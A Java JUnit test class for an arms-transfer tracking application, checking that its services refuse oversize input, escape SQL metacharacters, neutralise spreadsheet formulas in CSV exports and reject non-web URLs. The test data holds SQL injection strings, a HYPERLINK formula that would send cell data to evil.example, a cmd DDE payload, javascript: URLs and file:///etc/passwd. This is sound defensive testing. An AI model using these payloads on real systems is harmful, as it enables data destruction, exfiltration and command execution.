package org.transferwatch.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.stream.Stream;

import org.apache.commons.csv.CSVFormat;
import org.jooq.DSLContext;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.transaction.annotation.Transactional;
import org.transferwatch.base.ValidationException;
import org.transferwatch.exchange.ApiTokenService;
import org.transferwatch.exchange.ExchangeService;
import org.transferwatch.exchange.TransferCsv;
import org.transferwatch.sanctions.SanctionsLink;
import org.transferwatch.sanctions.SanctionsService;
import org.transferwatch.source.NewSource;
import org.transferwatch.source.SourceKind;
import org.transferwatch.source.SourceService;
import org.transferwatch.source.SourceSort;
import org.transferwatch.support.Accounts;
import org.transferwatch.support.TestData;
import org.transferwatch.support.TransferWatchTest;
import org.transferwatch.support.WithDemoUser;
import org.transferwatch.transfer.AdmiraltyGrade;
import org.transferwatch.transfer.Confidence;
import org.transferwatch.transfer.EvidenceService;
import org.transferwatch.transfer.NewClaim;
import org.transferwatch.transfer.Quantity;
import org.transferwatch.transfer.Stance;
import org.transferwatch.transfer.TransferDraft;
import org.transferwatch.transfer.TransferFilter;
import org.transferwatch.transfer.TransferFilterParameters;
import org.transferwatch.transfer.TransferKind;
import org.transferwatch.transfer.TransferListService;
import org.transferwatch.transfer.TransferReviewService;
import org.transferwatch.transfer.TransferRow;
import org.transferwatch.transfer.TransferSanctionsService;
import org.transferwatch.transfer.TransferService;
import org.transferwatch.transfer.TransferSort;
import org.transferwatch.transfer.TransferStatus;

/**
 * Input that is too long, that carries SQL's special characters, or that is not a web address, at the
 * services (the forms and the API go through them): refused with a message that says the limit, or harmless
 * and finding what it says. XSS payloads are shown as text in the browser: see {@code BadInputIT}.
 */
@TransferWatchTest
@Transactional
@WithDemoUser(Role.ADMIN)
class BadInputTest {

    /** A 10 MB paste. */
    static final String TEN_MB = "A".repeat(10 * 1024 * 1024);

    static final String THOUSAND = "N".repeat(1000);

    @Autowired
    TransferService transfers;

    @Autowired
    EvidenceService evidenceService;

    @Autowired
    TransferListService listing;

    @Autowired
    TransferReviewService reviews;

    @Autowired
    TransferSanctionsService transferSanctions;

    @Autowired
    SourceService sources;

    @Autowired
    SanctionsService sanctions;

    @Autowired
    UserService users;

    @Autowired
    ApiTokenService tokens;

    @Autowired
    DSLContext dsl;

    @Autowired
    ExchangeService exchange;

    private static TransferDraft draftWith(Function<TransferDraft, TransferDraft> change) {
        return change.apply(TestData.draft("PRK", "RUS", "Shells"));
    }

    private static TransferDraft with(TransferDraft d, String item, String designation, String unit, String routeNotes,
            String notes) {
        return new TransferDraft(d.supplierCode(), d.recipientCode(), d.kind(), d.categoryCode(), item, designation,
                new Quantity(d.quantity().low(), d.quantity().high(), unit, d.quantity().estimate()), d.valueUsdEstimate(),
                d.status(), d.period(), d.firstReportedOn(), routeNotes, notes, d.confidence());
    }

    private static NewSource source(String title, String publisher, String author, String url, String content) {
        return new NewSource(SourceKind.NEWS_ARTICLE, title, publisher, author, url, LocalDate.of(2024, 3, 1), "en", content);
    }

    interface Input {

        void enter(BadInputTest test);

    }

    /** Each oversize input, where it goes in, and the limit the user is told. */
    static Stream<Arguments> oversize() {
        return Stream.of(
                Arguments.of("a transfer's item, 1,000 characters", (Input) t -> t.transfers.createDraft(
                        draftWith(d -> with(d, THOUSAND, null, null, null, null))),
                        "The item description is limited to 500 characters."),
                Arguments.of("a transfer's item, 10 MB", (Input) t -> t.transfers.createDraft(
                        draftWith(d -> with(d, TEN_MB, null, null, null, null))),
                        "The item description is limited to 500 characters."),
                Arguments.of("a transfer's designation, 1,000 characters", (Input) t -> t.transfers.createDraft(
                        draftWith(d -> with(d, "Shells", THOUSAND, null, null, null))),
                        "The designation is limited to 200 characters."),
                Arguments.of("a transfer's unit, 1,000 characters", (Input) t -> t.transfers.createDraft(
                        draftWith(d -> with(d, "Shells", null, THOUSAND, null, null))), "The unit is limited to 50 characters."),
                Arguments.of("a transfer's route notes, 10 MB", (Input) t -> t.transfers.createDraft(
                        draftWith(d -> with(d, "Shells", null, null, TEN_MB, null))),
                        "Route notes are limited to 2000 characters."),
                Arguments.of("a transfer's notes, 10 MB", (Input) t -> t.transfers.createDraft(
                        draftWith(d -> with(d, "Shells", null, null, null, TEN_MB))), "Notes are limited to 10000 characters."),
                Arguments.of("a transfer's notes, 10 MB, in an edit", (Input) t -> {
                    var id = t.transfers.createDraft(TestData.draft("PRK", "RUS", "Shells"));
                    t.transfers.update(id, t.transfers.version(id).orElseThrow(),
                            draftWith(d -> with(d, "Shells", null, null, null, TEN_MB)));
                }, "Notes are limited to 10000 characters."),
                Arguments.of("a quote, 10 MB", (Input) t -> {
                    var id = t.transfers.createDraft(TestData.draft("PRK", "RUS", "Shells"));
                    var source = t.sources.add(source("Report", null, null, null, null)).source().id();
                    t.evidenceService.addClaim(id, new NewClaim(source, TEN_MB, Stance.SUPPORTS, AdmiraltyGrade.parse("B2")));
                }, "A quote is limited to 10000 characters; quote the passage, not the article."),
                Arguments.of("a source's title, 1,000 characters", (Input) t -> t.sources.add(source(THOUSAND, null, null,
                        null, null)), "A title is limited to 500 characters."),
                Arguments.of("a source's publisher, 1,000 characters", (Input) t -> t.sources.add(source("Report", THOUSAND,
                        null, null, null)), "The publisher is limited to 200 characters."),
                Arguments.of("a source's author, 1,000 characters", (Input) t -> t.sources.add(source("Report", null,
                        THOUSAND, null, null)), "The author is limited to 200 characters."),
                Arguments.of("a source's text, 10 MB", (Input) t -> t.sources.add(source("Report", null, null, null, TEN_MB)),
                        "The text is limited to 1,000,000 characters; paste the relevant excerpt."),
                Arguments.of("a source's URL, 10 MB", (Input) t -> t.sources.add(source("Report", null, null,
                        "https://example.org/" + TEN_MB, null)),
                        "The URL is limited to 2,000 characters; use the address of the page itself, without tracking parameters."),
                Arguments.of("a retraction's reason, 10 MB", (Input) t -> {
                    var id = t.transfers.createDraft(TestData.draft("PRK", "RUS", "Shells"));
                    t.reviews.publish(id, t.transfers.version(id).orElseThrow());
                    t.reviews.retract(id, t.transfers.version(id).orElseThrow(), TEN_MB);
                }, "The reason is limited to 2,000 characters; summarise it and keep the details in a source."),
                Arguments.of("a sanctions note, 10 MB", (Input) t -> {
                    var id = t.transfers.createDraft(TestData.draft("PRK", "RUS", "Shells"));
                    t.transferSanctions.decideProvision(id, t.sanctions.activeProvisions().getFirst().id(),
                            SanctionsLink.Decision.DISMISSED, TEN_MB);
                }, "A note is limited to 2,000 characters."),
                Arguments.of("a person's name, 1,000 characters", (Input) t -> t.users.create(Accounts.uniqueUsername("long"),
                        THOUSAND, Role.VIEWER, Accounts.PASSWORD), "The name may have at most 200 characters."),
                Arguments.of("a username, 1,000 characters", (Input) t -> t.users.create("n" + THOUSAND.toLowerCase(),
                        "Long Name", Role.VIEWER, Accounts.PASSWORD),
                        "A username has 2 to 64 characters — lower-case letters, digits, dots, hyphens and underscores"
                                + " — and starts with a letter or a digit."),
                Arguments.of("a password, 10 MB", (Input) t -> t.users.create(Accounts.uniqueUsername("long"), "Long Name",
                        Role.VIEWER, TEN_MB), "The password may have at most 128 characters."),
                Arguments.of("an API token's name, 1,000 characters", (Input) t -> t.tokens.create(THOUSAND),
                        "A token's name is limited to 100 characters."),
                Arguments.of("the transfers' search text, 10 MB", (Input) t -> t.listing.page(
                        TransferFilter.NONE.withText(TEN_MB), TransferSort.NEWEST, 0, 10),
                        "The search text is limited to 200 characters."));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("oversize")
    void oversize_input_is_refused_with_its_limit_and_nothing_is_stored(String what, Input input, String message) {
        var before = counts();
        assertThatThrownBy(() -> input.enter(this))
            .isInstanceOfSatisfying(ValidationException.class, e -> assertThat(e.problems()).contains(message));
        assertThat(counts()).as("rows written").isEqualTo(before);
    }

    /** Transfers and sources by item/title length: an oversize value must not have reached either table. */
    private Map<String, Integer> counts() {
        return Map.of("long transfers", dsl.fetchCount(dsl.selectFrom("transfer").where("length(item) > 500 or length(notes) > 10000 "
                + "or length(route_notes) > 2000 or length(review_note) > 2000")),
                "long sources", dsl.fetchCount(dsl.selectFrom("source").where("length(title) > 500 or length(url) > 2000")),
                "long quotes", dsl.fetchCount(dsl.selectFrom("claim_link").where("length(quote) > 10000")));
    }

    @Test
    void an_oversize_search_text_in_a_link_is_shortened_with_a_message() {
        var parsed = TransferFilterParameters.parse(Map.of(TransferFilterParameters.TEXT, List.of(TEN_MB)));
        assertThat(parsed.problems()).containsExactly("The search text is limited to 200 characters; it was shortened.");
        assertThat(parsed.filter().text()).hasSize(200);
        assertThat(listing.count(parsed.filter())).isZero();
    }

    @Test
    void the_database_refuses_a_retraction_reason_over_the_limit_even_without_the_application() {
        var id = transfers.createDraft(TestData.draft("PRK", "RUS", "Shells"));
        assertThatThrownBy(() -> dsl.execute("update transfer set review_note = repeat('x', 2001) where id = ?", id))
            .hasMessageContaining("transfer_review_note_length");
    }

    // SQL's special characters

    static final String INJECTION = "'; drop table transfer; --";

    private long published(String item) {
        var id = transfers.createDraft(TestData.draft("PRK", "RUS", item));
        reviews.publish(id, transfers.version(id).orElseThrow());
        return id;
    }

    private List<Long> found(String text) {
        return listing.page(TransferFilter.NONE.withText(text), TransferSort.NEWEST, 0, 100).stream().map(TransferRow::id).toList();
    }

    @Test
    void sql_metacharacters_in_the_transfers_search_are_searched_for_as_text() {
        var obrien = published("O'Brien's artillery shells");
        var percent = published("Shells, 100% of the stock");
        var underscore = published("Rockets for the T_72 tanks");
        var backslash = published("Drones in crates marked KH\\55");
        var injection = published("Shells " + INJECTION);
        var all = listing.count(TransferFilter.NONE);

        assertThat(found(INJECTION)).containsExactly(injection);
        assertThat(dsl.fetchCount(dsl.selectFrom("transfer"))).as("the table is still there").isGreaterThanOrEqualTo(all);
        assertThat(found("O'Brien's")).containsExactly(obrien);
        assertThat(found("100%")).containsExactly(percent);
        assertThat(found("T_72")).containsExactly(underscore);
        assertThat(found("KH\\55")).containsExactly(backslash);
        for (var wildcard : List.of("%", "_", "\\", "'", "''", "--", ";")) {
            assertThat(found(wildcard)).as("\"%s\" alone matches no word, so nothing, rather than everything", wildcard)
                .isEmpty();
        }
    }

    @Test
    void sql_metacharacters_in_the_library_search_are_searched_for_as_text() {
        var percent = sources.add(source("Stocks at 100% say officials", null, null, null, null)).source().id();
        var underscore = sources.add(source("File T_72_inventory", null, null, null, null)).source().id();
        var backslash = sources.add(source("Path C:\\reports", null, null, null, null)).source().id();
        var quote = sources.add(source("O'Brien on the deliveries", null, null, null, null)).source().id();
        var injection = sources.add(source("Title " + INJECTION, null, null, null, null)).source().id();
        var all = sources.count("");

        assertThat(literally("%")).contains(percent).doesNotContain(underscore, backslash, quote, injection);
        assertThat(literally("_")).contains(underscore).doesNotContain(percent, backslash, quote, injection);
        assertThat(literally("\\")).contains(backslash).doesNotContain(percent, underscore, quote, injection);
        assertThat(literally("O'Brien")).containsExactly(quote);
        assertThat(literally(INJECTION)).containsExactly(injection);
        assertThat(sources.search("100%", 10)).extracting(s -> s.id()).containsExactly(percent);
        assertThat(sources.count("")).isEqualTo(all);
    }

    /** The sources the library finds for the text, each checked to contain it literally (LIKE's wildcards escaped). */
    private List<Long> literally(String text) {
        var found = sources.page(text, SourceSort.NEWEST, 0, 100);
        assertThat(found).allSatisfy(s -> assertThat(String.join(" ", String.valueOf(s.title()), String.valueOf(s.publisher()),
                String.valueOf(s.author()), String.valueOf(s.url())).toLowerCase()).contains(text.toLowerCase()));
        return found.stream().map(s -> s.id()).toList();
    }

    @Test
    void sql_metacharacters_in_a_links_filter_parameters_are_ignored_with_a_message() {
        var parsed = TransferFilterParameters.parse(Map.of(
                TransferFilterParameters.SUPPLIER, List.of(INJECTION),
                TransferFilterParameters.RECIPIENT, List.of("%"),
                TransferFilterParameters.CATEGORY, List.of("_"),
                TransferFilterParameters.ISSUER, List.of("\\"),
                TransferFilterParameters.STATUS, List.of("delivered' or '1'='1"),
                TransferFilterParameters.FROM, List.of("2024-01-01'; --")));
        assertThat(parsed.problems()).hasSize(6).allSatisfy(problem -> assertThat(problem).contains("was ignored"));
        assertThat(parsed.filter().isEmpty()).isTrue();
        assertThat(listing.count(parsed.filter())).isEqualTo(listing.count(TransferFilter.NONE));
    }

    // Formulas in exports

    @Test
    void formulas_in_every_text_field_are_neutralised_in_the_export_and_come_back_unchanged() throws Exception {
        var item = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\") formulaprobe";
        var fields = new TransferDraft("PRK", "RUS", TransferKind.ARMS, "ML3", item, "+1 missile",
                new Quantity(null, null, "@SUM(1)", false), null, TransferStatus.REPORTED, null,
                null, "-2+3 via Rason", "=cmd|' /C calc'!A0", Confidence.LOW);
        var id = transfers.createDraft(fields);
        evidenceService.addClaimFromNewSource(id, source("\uff1d1+1 report", null, null, null, null),
                new NewClaim(0, "+1 more, they said", Stance.SUPPORTS, AdmiraltyGrade.parse("B2")));
        var out = new ByteArrayOutputStream();
        exchange.export(TransferFilter.NONE.withText("formulaprobe"), out);
        var text = out.toString(StandardCharsets.UTF_8).substring(1);
        var records = CSVFormat.RFC4180.builder().setHeader().get().parse(new StringReader(text)).getRecords();
        assertThat(records).hasSize(1);
        var row = records.getFirst();
        var written = Map.of(TransferCsv.ITEM, item,
                TransferCsv.DESIGNATION, "+1 missile",
                TransferCsv.QUANTITY_UNIT, "@SUM(1)",
                TransferCsv.ROUTE_NOTES, "-2+3 via Rason",
                TransferCsv.NOTES, "=cmd|' /C calc'!A0",
                TransferCsv.SOURCE, "\uff1d1+1 report",
                TransferCsv.QUOTE, "+1 more, they said");
        written.forEach((column, value) -> {
            assertThat(row.get(column)).as(column).isEqualTo("'" + value);
            assertThat(TransferCsv.restore(row.get(column))).as(column).isEqualTo(value);
        });
        assertThat(row.toList()).as("no cell starts with a formula trigger").noneMatch(
                cell -> cell.stripLeading().matches("(?s)^[=+\\-@\\t\\r\\uff1d\\uff0b\\uff0d\\uff20].*"));
    }

    // Web addresses

    @ParameterizedTest
    @ValueSource(strings = { "javascript:alert(1)", "JavaScript://example.org/%0Aalert(1)", "data:text/html,<script>alert(1)</script>",
            "example.org/report", "www.example.org/report", "//example.org/report", "https://exa mple.org/report",
            "https://example.org/a report", "ftp://example.org/report", "file:///etc/passwd", "http://", "https:///report",
            "mailto:press@example.org" })
    void a_source_url_that_is_not_a_web_address_is_refused_with_a_message(String url) {
        var before = sources.count("");
        assertThatThrownBy(() -> sources.add(source("Report", null, null, url, null)))
            .isInstanceOfSatisfying(ValidationException.class, e -> assertThat(e.problems()).containsExactly(
                    "The URL must be a web address starting with http:// or https://, such as"
                            + " https://www.example.org/report, without spaces."));
        assertThat(sources.count("")).isEqualTo(before);
    }

    @Test
    void a_source_url_over_two_thousand_characters_is_refused_and_one_of_two_thousand_is_kept() {
        var longest = "https://example.org/" + "a".repeat(2000 - "https://example.org/".length());
        assertThatThrownBy(() -> sources.add(source("Report", null, null, longest + "b", null)))
            .isInstanceOfSatisfying(ValidationException.class, e -> assertThat(e.problems()).containsExactly(
                    "The URL is limited to 2,000 characters; use the address of the page itself, without tracking parameters."));
        assertThat(sources.add(source("Report", null, null, longest, null)).source().url()).isEqualTo(longest);
    }

    @Test
    void a_url_added_with_a_claim_is_checked_the_same_way_and_nothing_is_added() {
        var id = transfers.createDraft(TestData.draft("PRK", "RUS", "Shells"));
        var before = sources.count("");
        assertThatThrownBy(() -> evidenceService.addClaimFromNewSource(id, source("Report", null, null, "javascript:alert(1)", null),
                new NewClaim(0, "Shells were delivered.", Stance.SUPPORTS, AdmiraltyGrade.parse("B2"))))
            .isInstanceOf(ValidationException.class);
        assertThat(sources.count("")).isEqualTo(before);
    }

}
